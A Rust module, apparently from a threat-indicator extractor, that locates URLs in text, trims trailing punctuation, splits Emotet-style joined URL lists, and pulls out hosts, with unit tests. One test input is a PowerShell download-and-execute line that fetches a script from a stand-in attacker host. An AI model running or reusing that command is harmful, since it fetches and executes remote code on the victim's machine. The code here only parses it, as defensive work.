//! URLs in text: where one starts (its `://` and scheme), where it ends, and its host.

/// The bytes that end a URL (with blanks, and brackets it did not open).
const URL_STOPS: &[u8] = b"\"'<>|,;`\\^{}";

/// The URL schemes looked for.
const SCHEMES: [&str; 3] = ["http://", "https://", "ftp://"];

/// Where the URL whose `://` is at `at` starts: its scheme, if it is one looked for.
pub(super) fn url_start(b: &[u8], at: usize) -> Option<usize> {
    ["https", "http", "ftp"].iter().find_map(|scheme| {
        let start = at.checked_sub(scheme.len())?;
        b[start..at]
            .eq_ignore_ascii_case(scheme.as_bytes())
            .then_some(start)
    })
}

/// How long the scheme at the start of `b` is, if one is there.
fn scheme_len(b: &[u8]) -> Option<usize> {
    SCHEMES
        .iter()
        .find(|s| b.len() > s.len() && b[..s.len()].eq_ignore_ascii_case(s.as_bytes()))
        .map(|s| s.len())
}

/// How long the URL at the start of `b` is (`http://`, `https://`, `ftp://` and a host),
/// without the punctuation that ends a sentence or closes a bracket it is in. It ends where
/// another URL starts (lists joined by `*` or `@`, as Emotet's are).
pub(super) fn url_len(b: &[u8]) -> Option<usize> {
    let scheme = scheme_len(b)?;
    let (mut parens, mut brackets) = (0i32, 0i32);
    let mut end = scheme;
    for (k, &c) in b.iter().enumerate().skip(scheme) {
        if matches!(c, b'h' | b'H' | b'f' | b'F') && scheme_len(&b[k..]).is_some() {
            break;
        }
        match c {
            b'(' => parens += 1,
            b')' if parens == 0 => break,
            b')' => parens -= 1,
            b'[' => brackets += 1,
            b']' if brackets == 0 => break,
            b']' => brackets -= 1,
            c if c.is_ascii_whitespace() || URL_STOPS.contains(&c) => break,
            _ => {}
        }
        end += 1;
    }
    while end > scheme && matches!(b[end - 1], b'.' | b':' | b'!' | b'?' | b'*' | b'@') {
        end -= 1;
    }
    (end > scheme).then_some(end)
}

/// A URL's host: without user, port or brackets.
pub(super) fn url_host(url: &str) -> Option<&str> {
    let (_, rest) = url.split_once("://")?;
    let authority = rest.split(['/', '?', '#']).next()?;
    let host = authority.rsplit_once('@').map_or(authority, |(_, h)| h);
    if let Some(v6) = host.strip_prefix('[') {
        return v6.split(']').next();
    }
    Some(host.split(':').next().unwrap_or(host))
}

#[cfg(test)]
mod tests {
    use super::super::tests::found;
    use crate::event::MentionKind::*;

    #[test]
    fn urls_end_where_the_text_around_them_starts() {
        assert_eq!(
            found("IEX (New-Object Net.WebClient).DownloadString('https://evil.example.com/a.ps1'); x"),
            vec![
                (Url, "https://evil.example.com/a.ps1".into()),
                (Domain, "evil.example.com".into()),
            ]
        );
        assert_eq!(
            found("see http://10.1.2.3:8080/x?y=1. Then (ftp://files.example.org/pub)"),
            vec![
                (Url, "http://10.1.2.3:8080/x?y=1".into()),
                (Ip, "10.1.2.3".into()),
                (Url, "ftp://files.example.org/pub".into()),
                (Domain, "files.example.org".into()),
            ]
        );
        assert_eq!(
            found("https://miro.example/max/1*FnPD.png x"),
            vec![
                (Url, "https://miro.example/max/1*FnPD.png".into()),
                (Domain, "miro.example".into()),
            ]
        );
        assert_eq!(
            found("'http://a.example/x/*https://b.example/y'"),
            vec![
                (Url, "http://a.example/x/".into()),
                (Domain, "a.example".into()),
                (Url, "https://b.example/y".into()),
                (Domain, "b.example".into()),
            ]
        );
    }
}
